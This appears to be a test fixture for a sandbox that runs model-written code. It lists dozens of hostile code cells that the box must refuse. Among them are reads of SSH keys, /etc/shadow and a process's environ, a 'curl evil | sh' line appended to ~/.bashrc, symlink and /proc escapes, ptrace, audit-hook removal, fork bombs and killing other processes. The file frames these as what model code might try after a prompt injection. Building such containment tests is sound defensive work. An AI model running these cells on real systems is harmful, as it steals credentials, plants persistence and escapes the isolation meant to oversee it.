"""Hostile cells: what model code might try after reading an injected document.

Each attack is a ```repl cell. `@NAME@` tokens are filled with host paths and pids
by the fixture (see conftest.Targets). A cell that gets through prints ESCAPED;
a refused one ends with the exception the root reads.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attack:
    name: str
    code: str
    what: str                  # one line for the table in docs/sandbox.md
    contained: bool = False    # may run inside the box (namespace mode): checked from outside
                               # (the daemon is dead after the run, the victim's nice unchanged)


SYSCALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(nr, *args):
    rc = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) for a in args])
    if rc < 0:
        e = ctypes.get_errno()
        raise OSError(e, f"syscall {nr}: {os.strerror(e)}")
    return rc
"""

ATTACKS = [
    Attack("read_ssh_key", "print(open('@HOME@/.ssh/id_rsa').read())\nprint('ESCAPED')",
           "read ~/.ssh/id_rsa of the user (fake HOME)"),
    Attack("read_keyring_file",
           "print(open('@HOME@/.local/share/python_keyring/keyring_pass.cfg').read())\nprint('ESCAPED')",
           "read a file-backed keyring"),
    Attack("read_real_home_via_pwd",
           "import pwd, os\nhome = pwd.getpwuid(os.getuid()).pw_dir\n"
           "if home != '@REAL_HOME@':   # namespace mode: the view's passwd names only /rlm/work/home\n"
           "    raise FileNotFoundError(2, f'the passwd entry names no home of the host ({home})')\n"
           "print(os.listdir(home))\nprint('ESCAPED')",
           "list the real $HOME found through pwd"),
    Attack("write_bashrc", "open('@HOME@/.bashrc', 'a').write('curl evil | sh\\n')\nprint('ESCAPED')",
           "append to ~/.bashrc"),
    Attack("write_settings",
           "open('@DATA@/settings.json', 'w').write('{\"endpoints\": []}')\nprint('ESCAPED')",
           "rewrite settings.json in RLMSTUDIO_DESKTOP_HOME"),
    Attack("read_sqlite_db",
           "import sqlite3\ncon = sqlite3.connect('file:@DATA@/rlm-studio.sqlite?mode=ro', uri=True)\n"
           "print(con.execute('select text from blobs').fetchall())\nprint('ESCAPED')",
           "read the app's SQLite database"),
    Attack("write_app_code", "open('@APP_CODE@', 'a').write('\\n# planted\\n')\nprint('ESCAPED')",
           "write into the worker's own code"),
    Attack("plant_pth", "open('@SITE@/zz-planted.pth', 'w').write('import os\\n')\nprint('ESCAPED')",
           "drop a .pth into site-packages"),
    Attack("read_host_tmp", "print(open('@HOST_TMP@').read())\nprint('ESCAPED')",
           "read a file in the host's /tmp"),
    Attack("read_etc_shadow", "print(open('/etc/shadow').read()[:100])\nprint('ESCAPED')",
           "read /etc/shadow (root can, without the box)"),
    Attack("proc_self_root", "print(open('/proc/self/root@HOME@/.ssh/id_rsa').read())\nprint('ESCAPED')",
           "read a user file through /proc/self/root"),
    Attack("proc_engine_cwd", "print(os.listdir('/proc/@ENGINE_PID@/cwd'))\nprint('ESCAPED')",
           "list the engine's cwd through /proc/<pid>/cwd"),
    Attack("proc_engine_environ", "print(open('//proc/@ENGINE_PID@/environ', 'rb').read())\nprint('ESCAPED')",
           "read the engine's environ via //proc/PID/environ"),
    Attack("symlink_out",
           "import os\nos.symlink('@HOME@/.ssh/id_rsa', 'key-link')\nprint(open('key-link').read())\n"
           "print('ESCAPED')", "a symlink from the worker's dir to a user file"),
    Attack("hardlink_out", "import os\nos.link('@HOME@/.ssh/id_rsa', 'key-hard')\nprint('ESCAPED')",
           "a hard link of a user file into the worker's dir"),
    Attack("o_path_dirfd",
           "import os\nfd = os.open('@HOME@/.ssh', os.O_PATH)\n"
           "print(os.read(os.open('id_rsa', os.O_RDONLY, dir_fd=fd), 100))\nprint('ESCAPED')",
           "O_PATH handle on ~/.ssh, then openat"),
    Attack("memfd_exec",
           "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/bin/true', 'rb').read())\n"
           "os.execv(f'/proc/self/fd/{fd}', ['x'])\nprint('ESCAPED')",
           "memfd_create + exec"),
    Attack("exec_from_workdir",
           "import os, shutil, subprocess\nshutil.copy('/bin/true', 'mytrue')\nos.chmod('mytrue', 0o755)\n"
           "subprocess.run(['./mytrue'], check=True)\nprint('ESCAPED')",
           "run a binary written into the worker's dir"),
    Attack("unix_socket_path",
           "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('@SOCK@')\ns.sendall(b'hi')\n"
           "print('ESCAPED')", "connect to a listening UNIX socket at a host path"),
    Attack("raw_socket_ctypes", SYSCALLS + "fd = sc(@NR_SOCKET@, 1, 1, 0)\nprint('ESCAPED', fd)",
           "socket(AF_UNIX) as a raw syscall through ctypes"),
    Attack("tcp_localhost",
           "import socket\nsocket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nprint('ESCAPED')",
           "TCP to 127.0.0.1 (the scripted server)"),
    Attack("umount_run_user", SYSCALLS + "libc.umount2.restype = ctypes.c_int\n"
           "for target in (b'/proc', b'/run/user', b'/'):\n"
           "    if libc.umount2(target, 2) == 0:\n        print('ESCAPED', target)\n"
           "e = ctypes.get_errno()\nraise OSError(e, 'umount2: ' + os.strerror(e))",
           "umount2 to uncover hidden mounts"),
    Attack("mount_new_api", SYSCALLS + "sc(@NR_FSOPEN@, 0, 0)\nprint('ESCAPED')",
           "fsopen (the new mount API)"),
    Attack("inotify_watch_home", SYSCALLS +
           "fd = sc(@NR_INOTIFY_INIT1@, 0)\nhome = ctypes.create_string_buffer(b'@HOME@')\n"
           "sc(@NR_INOTIFY_ADD_WATCH@, fd, ctypes.addressof(home), 0x20)\nprint('ESCAPED')",
           "inotify_add_watch on ~ (names of the files the user opens)"),
    Attack("fanotify_init", SYSCALLS + "sc(@NR_FANOTIFY_INIT@, 0, 0)\nprint('ESCAPED')",
           "fanotify_init (watch every file access)"),
    Attack("listmount_host", SYSCALLS +
           "import struct\nreq = ctypes.create_string_buffer(struct.pack('<IIQQQ', 32, 0, 2**64 - 1, 0, 0))\n"
           "ids = (ctypes.c_uint64 * 256)()\n"
           "n = sc(@NR_LISTMOUNT@, ctypes.addressof(req), ctypes.addressof(ids), 256, 0)\n"
           "print('ESCAPED listed', n, 'mounts')",
           "listmount (the mount table)"),
    Attack("statmount_host_paths", SYSCALLS +
           "import struct\nbuf = ctypes.create_string_buffer(256)\nroot = ctypes.create_string_buffer(b'/')\n"
           "sc(@NR_STATX@, -100, ctypes.addressof(root), 0, 0x4000, ctypes.addressof(buf))\n"
           "mnt = struct.unpack_from('<Q', buf.raw, 0x90)[0]\n"
           "req = ctypes.create_string_buffer(struct.pack('<IIQQQ', 32, 0, mnt, 0x8 | 0x10, 0))\n"
           "out = ctypes.create_string_buffer(8192)\n"
           "sc(@NR_STATMOUNT@, ctypes.addressof(req), ctypes.addressof(out), 8192, 0)\n"
           "print('ESCAPED', out.raw[:600])",
           "statmount of / (the host paths behind the view)"),
    Attack("unshare_userns", SYSCALLS + "sc(@NR_UNSHARE@, 0x10000000)\nprint('ESCAPED')",
           "unshare a new user namespace (caps again)"),
    Attack("ptrace_engine", SYSCALLS + "sc(@NR_PTRACE@, 16, @ENGINE_PID@, 0, 0)\nprint('ESCAPED')",
           "ptrace(PTRACE_ATTACH) the engine"),
    Attack("kernel_surface", SYSCALLS +
           "refused = []\nfor name, nr in @KERNEL_CALLS@:\n    try:\n        sc(nr, 0, 0, 0, 0)\n"
           "        print('ESCAPED', name)\n    except OSError as e:\n        refused.append((name, e.errno))\n"
           "assert all(err == 1 for _, err in refused), refused\n"
           "raise PermissionError(f'all {len(refused)} refused with EPERM')",
           "io_uring, bpf, keyctl, perf_event_open, process_vm_readv, setns, kexec ..."),
    Attack("signal_engine", "import os, signal\nos.kill(@ENGINE_PID@, signal.SIGCONT)\nprint('ESCAPED')",
           "send a signal to the engine"),
    Attack("signal_other_process", "import os, signal\nos.kill(@VICTIM_PID@, signal.SIGKILL)\nprint('ESCAPED')",
           "kill another process of the user"),
    Attack("write_200mb_outside",
           "chunk = b'x' * (8 << 20)\nwith open('@OUTSIDE@/big.bin', 'wb') as f:\n"
           "    for _ in range(25):\n        f.write(chunk)\nprint('ESCAPED')",
           "write 200 MB outside the worker's dir"),
    Attack("fill_workdir",
           "import os\nchunk = b'x' * (8 << 20)\nn = 0\ntry:\n    with open('big.bin', 'wb') as f:\n"
           "        for _ in range(100):\n            f.write(chunk)\n            f.flush()\n            n += 1\n"
           "finally:\n    print('wrote', n * 8, 'MB')\n    os.remove('big.bin')\nprint('ESCAPED')",
           "fill the worker's own dir past its limit (800 MB)"),
    Attack("fork_bomb",
           "import os, time, signal\nkids = []\ntry:\n    for _ in range(2000):\n        pid = os.fork()\n"
           "        if pid == 0:\n            time.sleep(60)\n            os._exit(0)\n        kids.append(pid)\n"
           "finally:\n    print('forked', len(kids))\n    for k in kids:\n        os.kill(k, signal.SIGKILL)\n"
           "        os.waitpid(k, 0)\nprint('ESCAPED')",
           "fork bomb (2000 sleeping children)"),
    Attack("double_fork_daemon",
           "import os, time\npid = os.fork()\nif pid == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
           "        os.execv('/bin/sleep', ['sleep', '@DAEMON_MARK@'])\n    os._exit(0)\nos.waitpid(pid, 0)\n"
           "time.sleep(0.2)\nprint('daemon started')",
           "a double-forked daemon (must be dead after the run)", contained=True),
    Attack("audit_hook_removal",
           "import sys, gc, socket\nsys.audit = lambda *a: None\n"
           "for f in [o for o in gc.get_objects() if getattr(o, '__name__', '') == '_audit_hook']:\n"
           "    for attr, value in (('__code__', (lambda e, a: None).__code__), ('__defaults__', ())):\n"
           "        try:\n            setattr(f, attr, value)\n            print('hook', attr, 'replaced')\n"
           "        except PermissionError as e:\n            print('hook', attr, 'kept:', e)\n"
           "socket.create_connection(('127.0.0.1', @PORT@), timeout=2)\nprint('ESCAPED')",
           "sys.audit = ..., replace the hook's code/defaults, then TCP"),
    # issue 24: host IPC
    Attack("sysv_shm_read_host", SYSCALLS +
           "libc.shmat.restype = ctypes.c_void_p\n"
           "sid = libc.shmget(@SHM_KEY@, 0, 0)\n"
           "if sid < 0:\n    e = ctypes.get_errno()\n    raise OSError(e, 'shmget: ' + os.strerror(e))\n"
           "addr = libc.shmat(sid, None, 0)\nprint(ctypes.string_at(addr, 32))\n"
           "libc.shmctl(sid, 0, None)\nprint('ESCAPED')",
           "read (and remove) the host's SysV shared-memory segment"),
    Attack("sysv_shm_leave_segments", SYSCALLS +
           "made = []\nfor _ in range(4):\n    sid = libc.shmget(0, @SHM_LEAK_SIZE@, 0o1600)\n"
           "    if sid < 0:\n        e = ctypes.get_errno()\n"
           "        raise OSError(e, f'shmget (after {len(made)}): ' + os.strerror(e))\n"
           "    made.append(sid)\nprint('ESCAPED', made)",
           "leave 4 SysV segments behind (memory outside every limit)"),
    Attack("sysv_msg_sem", SYSCALLS +
           "for name, rc in (('msgget', libc.msgget(0, 0o1600)), ('semget', libc.semget(0, 1, 0o1600))):\n"
           "    if rc >= 0:\n        print('ESCAPED', name)\n"
           "e = ctypes.get_errno()\nraise OSError(e, 'msgget/semget: ' + os.strerror(e))",
           "SysV message queue and semaphore set"),
    Attack("posix_mqueue", SYSCALLS +
           "fd = sc(@NR_MQ_OPEN@, ctypes.cast(ctypes.c_char_p(b'rlm-mq'), ctypes.c_void_p).value, 0o102, 0o600, 0)\n"
           "print('ESCAPED', fd)",
           "a POSIX message queue (mq_open)"),
    # issue 24: file metadata
    Attack("chmod_home", "import os\nos.chmod('@HOME@', 0o777)\nprint('ESCAPED')", "chmod ~ to 0777"),
    Attack("chmod_ssh_key", "import os\nos.chmod('@HOME@/.ssh/id_rsa', 0o644)\nprint('ESCAPED')",
           "chmod ~/.ssh/id_rsa to 0644"),
    Attack("chmod_database", "import os\nos.chmod('@DATA@/rlm-studio.sqlite', 0)\nprint('ESCAPED')",
           "chmod the app's database to 000"),
    Attack("setuid_bit", "import os\nos.chmod('@SETUID_TARGET@', 0o4755)\nprint('ESCAPED')",
           "set the setuid bit on a binary"),
    Attack("chown_key", "import os\nos.chown('@HOME@/.ssh/id_rsa', os.getuid(), os.getgid())\nprint('ESCAPED')",
           "chown ~/.ssh/id_rsa"),
    Attack("utime_bashrc", "import os\nos.utime('@HOME@/.bashrc', (0, 0))\nprint('ESCAPED')",
           "utime ~/.bashrc to 1970"),
    Attack("setxattr_bashrc", "import os\nos.setxattr('@HOME@/.bashrc', 'user.rlm', b'planted')\nprint('ESCAPED')",
           "setxattr on ~/.bashrc"),
    # issue 24: other processes' limits and scheduling
    Attack("prlimit_engine", "import resource\nnow = resource.prlimit(@ENGINE_PID@, resource.RLIMIT_FSIZE)\n"
           "resource.prlimit(@ENGINE_PID@, resource.RLIMIT_FSIZE, now)\nprint('ESCAPED', now)",
           "prlimit64 on the engine (RLIMIT_FSIZE)"),
    Attack("prlimit_other_process", "import resource\n"
           "resource.prlimit(@VICTIM_PID@, resource.RLIMIT_CPU, (1, 1))\nprint('ESCAPED')",
           "prlimit64 RLIMIT_CPU 1 s on another process of the user"),
    Attack("setpriority_other", "import os\nos.setpriority(os.PRIO_PROCESS, @VICTIM_PID@, 19)\nprint('ESCAPED')",
           "setpriority on another process of the user"),
    Attack("setpriority_all_of_user", "import os\nos.setpriority(os.PRIO_USER, 0, 19)\nprint('reniced every process of the user it sees')",
           "setpriority on every process of the user (PRIO_USER)", contained=True),
    Attack("sched_setaffinity_other", "import os\nos.sched_setaffinity(@VICTIM_PID@, {0})\nprint('ESCAPED')",
           "sched_setaffinity on another process of the user"),
    Attack("ioprio_set_other", SYSCALLS + "sc(@NR_IOPRIO_SET@, 1, @VICTIM_PID@, (3 << 13) | 7)\nprint('ESCAPED')",
           "ioprio_set (idle class) on another process of the user"),
    # issue 24: memory of the worker's processes together, the worker directory's total
    Attack("memory_across_processes",
           "import os, time\nkids = []\nfor _ in range(3):\n    pid = os.fork()\n    if pid == 0:\n"
           "        data = b'\\1' * (800 << 20)\n        time.sleep(4)\n        os._exit(0)\n    kids.append(pid)\n"
           "for k in kids:\n    os.waitpid(k, 0)\nprint('ESCAPED: 3 x 800 MB resident')",
           "3 children x 800 MB resident against the 2,048 MB limit"),
    Attack("fill_workdir_files",
           "chunk = b'x' * (8 << 20)\nn = 0\nfor i in range(3):\n    with open(f'big{i}.bin', 'wb') as f:\n"
           "        for _ in range(38):\n            f.write(chunk)\n            f.flush()\n            n += 1\n"
           "print('ESCAPED: wrote', n * 8, 'MB')",
           "fill the worker's dir with 3 files of 300 MB (the 512 MB limit was per file)"),
    # issue 24: what /proc tells
    Attack("proc_other_cmdline", "print(open('/proc/@VICTIM_PID@/cmdline').read())\nprint('ESCAPED')",
           "read another process's command line"),
    Attack("proc_net_unix", "data = open('/proc/net/unix').read()\nprint('ESCAPED', '@SOCK@' in data)",
           "list UNIX sockets through /proc/net/unix"),
    Attack("proc_mountinfo", "data = open('/proc/self/mountinfo').read()\n"
           "print('ESCAPED', len(data.splitlines()), 'mounts')",
           "read /proc/self/mountinfo (the host paths of the binds)"),
    Attack("protocol_flood",
           "import os, sys\nfd = int(sys.argv[sys.argv.index('--fd-out') + 1])\n"
           "os.write(fd, b'{' + b'x' * (300 << 20) + b'}\\n')\nprint('ESCAPED')",
           "one 300 MB line on the protocol pipe"),
]

ORDINARY = """
import re, json, csv, io, statistics, datetime, collections, sqlite3
words = re.findall(r"[a-z]+", context.lower())
rows = list(csv.reader(io.StringIO("a,b\\n1,2\\n3,4")))
con = sqlite3.connect(":memory:")
con.execute("create table t (x)")
con.executemany("insert into t values (?)", [(1,), (2,), (3,)])
total = con.execute("select sum(x) from t").fetchone()[0]
stats = {"mean": statistics.mean([1, 2, 3]), "day": datetime.date(2026, 1, 2).isoformat(),
         "common": collections.Counter(words).most_common(1)[0][0], "rows": len(rows), "sum": total,
         "docs": len(documents), "sub": llm_query("ping")}
# the worker's own limits and scheduling stay its own to change (issue 24)
import os, resource
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
resource.prlimit(0, resource.RLIMIT_NOFILE, resource.getrlimit(resource.RLIMIT_NOFILE))
os.setpriority(os.PRIO_PROCESS, 0, os.getpriority(os.PRIO_PROCESS, 0))
os.sched_setaffinity(0, os.sched_getaffinity(0))
with open("own.txt", "w") as f:
    f.write("x")
os.remove("own.txt")
assert "Pid:" in open("/proc/self/status").read()          # its own /proc entries stay readable
assert os.cpu_count() >= 1
stats["tables"] = len(tables)
print("ORDINARY", json.dumps(stats, sort_keys=True))
"""
